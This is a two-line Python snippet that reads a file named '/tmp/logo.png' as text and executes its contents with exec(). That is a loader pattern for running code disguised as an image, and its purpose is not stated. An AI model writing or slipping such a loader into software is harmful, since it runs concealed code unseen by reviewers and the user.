import pathlib

exec(pathlib.Path("/tmp/logo.png").read_text())
